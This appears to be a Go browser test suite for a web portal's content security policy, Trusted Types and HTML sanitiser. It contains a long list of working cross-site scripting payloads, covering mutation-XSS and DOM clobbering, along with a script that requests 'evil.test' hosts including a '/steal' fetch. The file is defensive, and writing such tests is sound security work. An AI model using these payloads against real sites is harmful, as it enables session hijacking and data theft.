package e2e

import (
	"context"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/fetch"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"ghasi.io/portal/config"
)

// attacks are fragments of a server whose escaping has failed. Each calls owned() when something of it runs. They cover what
// sanitisers have fallen to: handlers, addresses that are code, documents in documents, clobbered DOM properties, and markup that
// changes its meaning when it is parsed a second time.
var attacks = []string{
	// What runs by itself.
	`<script>owned()</script>`,
	`<SCRIPT SRC="/assets/none.js"></SCRIPT><script type=module>owned()</script>`,
	`<img src=x onerror=owned()>`,
	`<img src=x onerror="owned()"//`,
	`<img src=x:x onerror=owned()>`,
	"<img/src=x\x00 onerror=owned()>",
	`<svg onload=owned()>`,
	`<svg><script>owned()</script></svg>`,
	`<svg><animate onbegin=owned() attributeName=x dur=1s>`,
	`<svg><set attributeName=onmouseover to=owned()>`,
	`<svg><a><animate attributeName=href values=javascript:owned() /><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='owned()'/></svg>#x">`,
	`<svg><foreignObject><img src=x onerror=owned()></foreignObject></svg>`,
	`<svg><image href=x onerror=owned()></svg>`,
	`<body onload=owned()>`,
	`<html onmouseover=owned()><body onfocus=owned() autofocus tabindex=1>`,
	`<details open ontoggle=owned()>x</details>`,
	`<input onfocus=owned() autofocus>`,
	`<select onfocus=owned() autofocus><option>x</select>`,
	`<video><source onerror=owned()></video>`,
	`<audio src=x onerror=owned()></audio>`,
	`<video poster=javascript:owned()></video>`,
	`<marquee onstart=owned()>x</marquee>`,
	`<object data="javascript:owned()"></object>`,
	`<embed src="javascript:owned()">`,
	`<iframe src="javascript:parent.owned()"></iframe>`,
	`<iframe srcdoc="<script>parent.owned()</script>"></iframe>`,
	`<iframe srcdoc="&lt;img src=x onerror=parent.owned()&gt;"></iframe>`,
	`<frameset onload=owned()><frame src="javascript:owned()"></frameset>`,
	`<style>@import 'javascript:owned()';</style>`,
	`<style onload=owned()></style>`,
	`<link rel=stylesheet href="data:text/css,x" onload=owned()>`,
	`<link rel=import href="data:text/html,<script>owned()</script>">`,
	`<meta http-equiv=refresh content="0;url=javascript:owned()">`,
	`<base href="javascript:owned()//"><a href=x>x</a>`,
	`<div style="animation:spin 1s" onanimationstart=owned()>x</div>`,
	`<div popover id=p onbeforetoggle=owned()>x</div><button popovertarget=p>x</button>`,
	`<button command="--x" commandfor=p onclick=owned()>x</button>`,
	`<template shadowrootmode=open><img src=x onerror=owned()></template>`,
	`<template><script>owned()</script></template>`,
	`<custom-element onclick=owned()>x</custom-element><x-y is=z onconnect=owned()>`,
	// Addresses that are code, for whoever clicks.
	`<a href="javascript:owned()">x</a>`,
	`<a href="JaVaScRiPt:owned()">x</a>`,
	"<a href=\"java\tscript:owned()\">x</a><a href=\"java\nscript:owned()\">x</a>",
	"<a href=\"\x01javascript:owned()\">x</a><a href=\" javascript:owned()\">x</a>",
	`<a href="&#x6A;avascript&colon;owned()">x</a>`,
	`<a href="data:text/html,<script>opener.owned()</script>">x</a>`,
	`<a href="vbscript:owned()">x</a>`,
	`<form action="javascript:owned()"><button>x</button></form>`,
	`<form><button formaction="javascript:owned()">x</button></form>`,
	`<form><input type=image src=x formaction="javascript:owned()"></form>`,
	`<svg><a xlink:href="javascript:owned()"><text y=20>x</text></a></svg>`,
	`<math href="javascript:owned()">x</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:owned()">x</math>`,
	`<area href="javascript:owned()" shape=default>`,
	// htmx's own language.
	`<b hx-on:click="owned()">x</b><b hx-on::load="owned()">x</b><b data-hx-on:click="owned()">x</b>`,
	`<b hx-get="javascript:owned()" hx-trigger="load">x</b>`,
	`<b hx-get="https://evil.test/" hx-trigger="load">x</b>`,
	`<b hx-get="/healthz" hx-trigger="load[owned()]">x</b>`,
	`<b hx-get="/healthz" hx-trigger="load" hx-vals="js:{a: owned()}">x</b>`,
	`<b hx-get="/healthz" hx-trigger="load" hx-headers="javascript:owned()">x</b>`,
	`<b hx-get="/healthz" hx-trigger="load" hx-confirm="js:owned()">x</b>`,
	// Names that stand before properties of the document and of forms.
	`<form id=x><input name=attributes><input name=nodeName><img src=x onerror=owned()></form>`,
	`<form onmouseover=owned()><input name=attributes><input name=attributes></form>`,
	`<form><input name=parentNode><input name=removeChild onfocus=owned() autofocus></form>`,
	`<img name=getElementById><img name=querySelector><img name=createElement>`,
	`<img name=body><img name=cookie><img name=implementation>`,
	`<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="x:owned()"></a>`,
	`<form id=htmx><input name=process></form><a id=DOMPurify name=sanitize>x</a>`,
	`<iframe name=location srcdoc="x"></iframe><form name=document><input name=location></form>`,
	// Markup that means something else the second time.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src=x onerror=owned()></style>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned()>`,
	`<svg></p><style><a id="</style><img src=1 onerror=owned()>">`,
	`<svg><p><style><g title="</style><img src=x onerror=owned()>">`,
	`<svg><style><!--</style><img title="--><img src=x onerror=owned()>">`,
	`<svg><desc><noembed><![CDATA[</noembed><img src=x onerror=owned()>]]></desc></svg>`,
	`<svg><title><style><![CDATA[</style><img src=x onerror=owned()>]]></title></svg>`,
	`<math><annotation-xml encoding="text/html"><style><!--</style><p id="--><img src=x onerror=owned()>">`,
	`<math><mi xlink:href="data:x,<script>owned()</script>">`,
	`<math><mi//xlink:href="data:x,<script>owned()</script>">`,
	`<noscript><p title="</noscript><img src=x onerror=owned()>">`,
	`<noembed><p title="</noembed><img src=x onerror=owned()>">`,
	`<noframes><p title="</noframes><img src=x onerror=owned()>">`,
	`<xmp><p title="</xmp><img src=x onerror=owned()>">`,
	`<textarea><p title="</textarea><img src=x onerror=owned()>">`,
	`<title><p title="</title><img src=x onerror=owned()>">`,
	`<iframe><p title="</iframe><img src=x onerror=owned()>">`,
	`<plaintext><img src=x onerror=owned()>`,
	`<listing>&lt;img onerror="owned();//" src=x&gt;<t t></listing>`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=owned()>">`,
	`<select><style></select><img src=x onerror=owned()></style>`,
	`<option><style></option></select><b><img src=x onerror=owned()></style></option>`,
	`<table><caption><svg><title><style><img src=x onerror=owned()></style></title></svg></caption></table>`,
	`<p><svg><p><math><p><style><a title="</style><img src=x onerror=owned()>">`,
	`<a><svg><a><style><a title="</style></a><img src=x onerror=owned()>">`,
	`<!--><img src=x onerror=owned()>-->`,
	`<!--><svg><style><!----!><img src=x onerror=owned()>-->`,
	`<![CDATA[><img src=x onerror=owned()>]]>`,
	`<?xml-stylesheet ><img src=x onerror=owned()> ?>`,
	`<img src="x` + "`" + `<script>owned()</script>"` + "`" + `>`,
	`<b title="` + "`" + `" onmouseover=owned()>x</b><i title="'&quot;><img src=x onerror=owned()>">x</i>`,
	strings.Repeat("<div>", 600) + `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;">`,
	strings.Repeat("<b><table>", 260) + `<svg><style><img src=x onerror=owned()></style></svg>`,
}

// drive swaps every attack in by htmx, as a page does with any answer, and afterwards clicks, focuses and hovers what came in.
const drive = `(async (count) => {
	globalThis.ran = [];
	let current = -1;
	globalThis.owned = () => { ran.push(current); };
	for (let i = 0; i < count; i++) {
		current = i;
		await htmx.ajax("GET", "/attack/" + i, { target: "#box", swap: "innerHTML" });
		await new Promise(requestAnimationFrame);
		const box = document.getElementById("box");
		if (!box) { ran.push("box lost at " + i); break; }
		// Where an honest link would lead is not what this is about.
		box.addEventListener("click", (event) => { const link = event.target.closest("a, area"); if (link && !/^(javascript|data|vbscript):$/.test(link.protocol ?? "")) { event.preventDefault(); event.stopPropagation(); } }, true);
		for (const e of box.querySelectorAll("*")) {
			for (const type of ["mouseover", "focus", "toggle", "load", "error", "animationstart"]) e.dispatchEvent(new Event(type));
			if (!e.matches("form button, form input, [type=submit]")) e.click?.();
		}
		const bad = box.querySelector("script, style, iframe, object, embed, base, meta, link, math, [srcdoc], [onerror], [onload], [hx-on\\:click], [hx-get^='http'], [hx-vals], [hx-headers^='j'], [href^='javascript' i], [formaction], [action^='javascript' i]");
		if (bad) ran.push(i + " left " + bad.outerHTML.slice(0, 200));
		box.replaceChildren();
	}
	await new Promise(done => setTimeout(done, 300));
	return ran.map(String);
})`

// TestSecurity_TrustedTypes swaps hostile fragments into a page of the portal: nothing of them runs, nothing that could is left,
// and the page goes on working. It holds with the policy in force, and by the sanitiser alone in a browser that has none.
func TestSecurity_TrustedTypes(t *testing.T) {
	for name, bypass := range map[string]bool{"policy": false, "sanitiser alone": true} {
		t.Run(name, func(t *testing.T) {
			b := newTab(t, shared, look{}).as(someone(t, shared, manager))
			// The sanitiser's own inert parse trips the alarm, which is wanted; pictures without their handlers are not there.
			for _, noise := range []string{"Content Security Policy", "violates", "404", "Failed to load resource", "ERR_", "Error: <"} {
				b.expect(noise)
			}
			b.call(func(ctx context.Context) error {
				_, err := chromedp.Call(ctx, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: bypass})
				return err
			})
			b.visit("/developers")
			b.attacks("*/attack/*", attacks)
			eval[bool](b, `(() => { const box = document.createElement("div"); box.id = "box"; document.querySelector("main").prepend(box); return true; })()`)
			if bypass { // what the test looks for does happen where nothing stands in its way
				if !eval[bool](b, `(async () => {
					globalThis.owned = () => { globalThis.control = true; };
					const raw = document.createElement("div"); raw.setAttribute("onclick", "owned()"); raw.click();
					return control === true;
				})()`) {
					t.Fatal("nothing runs here anyway: the test proves nothing")
				}
			}
			for _, what := range eval[[]string](b, drive+"("+strconv.Itoa(len(attacks))+")") {
				i, err := strconv.Atoi(strings.Fields(what)[0])
				if err == nil && i < len(attacks) {
					what += ": " + attacks[i][max(0, len(attacks[i])-200):]
				}
				t.Errorf("ran or stayed: %s", what)
			}
			if !eval[bool](b, `typeof document.querySelector === "function" && document.body instanceof HTMLElement && typeof htmx.ajax === "function"`) {
				t.Error("the document is clobbered")
			}
			b.visit("/messages")
			b.see("#message-list tbody tr")
		})
	}
}

// attacks makes the browser get one fragment for each number at the end of pattern.
func (b *tab) attacks(pattern string, bodies []string) {
	b.t.Helper()
	err := chromedp.Listen(b.ctx, func(event any) {
		e, ok := event.(*fetch.EventRequestPaused)
		if !ok {
			return
		}
		go func() {
			i, err := strconv.Atoi(e.Request.URL[strings.LastIndexByte(e.Request.URL, '/')+1:])
			body := "<p>none</p>"
			if err == nil && i < len(bodies) {
				body = bodies[i]
			}
			_, _ = chromedp.Call(b.ctx, fetch.FulfillRequest, fetch.FulfillRequestParams{
				RequestID: e.RequestID, ResponseCode: http.StatusOK, Body: []byte(body),
				ResponseHeaders: []*fetch.HeaderEntry{{Name: "Content-Type", Value: "text/html; charset=utf-8"}},
			})
		}()
	})
	if err != nil {
		b.t.Fatal(err)
	}
	b.call(func(ctx context.Context) error {
		_, err := chromedp.Call(ctx, fetch.Enable, fetch.EnableParams{Patterns: []*fetch.RequestPattern{{URLPattern: pattern}}})
		return err
	})
}

// TestSecurity_ViolationsAreReported: what a browser refuses reaches the security page of the tenant whose session it was, of no
// other, and Sentry.
func TestSecurity_ViolationsAreReported(t *testing.T) {
	inbox := newSentry(t)
	s := newSite(t, func(c *config.Config) { c.SentryDSN = inbox.dsn() })
	b := newTab(t, s, look{}).as(someone(t, s, manager))
	b.expect("Content Security Policy")
	b.expect("violates")
	b.expect("This document requires")
	b.expect("TrustedHTML")
	b.expect("ERR_")
	b.expect("Failed to load resource")
	b.visit("/settings/security")
	b.see("#reports .empty")
	// A script of ours that makes every mistake: the debugging protocol itself is exempt from the policy, its timers are not.
	eval[bool](b, `(setTimeout(() => {
		try { document.body.innerHTML = "<p>raw</p>"; } catch {}
		const img = document.createElement("img"); img.src = "http://img.evil.test/x.png"; document.body.append(img);
		const script = document.createElement("script"); try { script.src = "https://evil.test/x.js"; } catch {}
		fetch("https://evil.test/steal").catch(() => {});
		document.body.insertAdjacentElement("beforeend", Object.assign(document.createElement("div"), { id: "done" }));
	}, 0), true)`)
	b.see("main")
	b.until("reported", `!!document.getElementById("done")`)
	for _, want := range []string{"connect-src", "img-src", "require-trusted-types-for"} {
		inbox.got(t, "policy violation: "+want, `"build":"e2e"`)
	}
	b.visit("/settings/security")
	for _, want := range []string{"https://evil.test", "http://img.evil.test", "trusted-types-sink", "/settings/security"} {
		b.seeText("#reports", want)
	}
	if got := b.text("#reports"); strings.Contains(got, "steal") {
		t.Errorf("an address's path is kept: %s", got)
	}
	other := newTab(t, s, look{}).as(someone(t, s, customer))
	other.visit("/settings/security")
	other.see("#reports .empty")
	office := newTab(t, s, look{}).as(someone(t, s, staff))
	office.visit("/settings/security")
	office.seeText("#reports", "https://evil.test")
}

func TestSecurity_Page(t *testing.T) {
	p := someone(t, shared, customer)
	for _, noJS := range []bool{false, true} {
		b := newTab(t, shared, look{noJS: noJS}).as(p)
		b.visit("/settings")
		b.click(`.tabs a[href="/settings/security"]`)
		b.at("/settings/security")
		b.seeText(".grade-score", "Grade A+, 135 points")
		if n := b.count("table tbody .tone-bad"); n != 0 {
			t.Errorf("%d headers are not as they should be", n)
		}
	}
}

// reported sends some violations, as a browser does, and looks again.
func reported(b *tab) {
	eval[bool](b, `(async () => {
		const send = (directive, blocked, path, disposition = "report") => fetch("/csp-report", {
			method: "POST", headers: { "Content-Type": "application/csp-report" },
			body: JSON.stringify({ "csp-report": { "document-uri": location.origin + path, "effective-directive": directive, "blocked-uri": blocked, disposition } }),
		});
		for (const path of ["/messages", "/messages/msg_01k9", "/dashboard", "/login", "/api-keys"]) await send("script-src-elem", "https://cdn.a-rather-long-name-of-a-host.example.com/x.js", path);
		await send("script-src-elem", "inline", "/login", "enforce");
		await send("require-trusted-types-for", "trusted-types-sink", "/send-test");
		await send("img-src", "http://pictures.test/a.png", "/dashboard");
		return true;
	})()`)
	b.visit("/settings/security")
	b.see(".report-group")
}
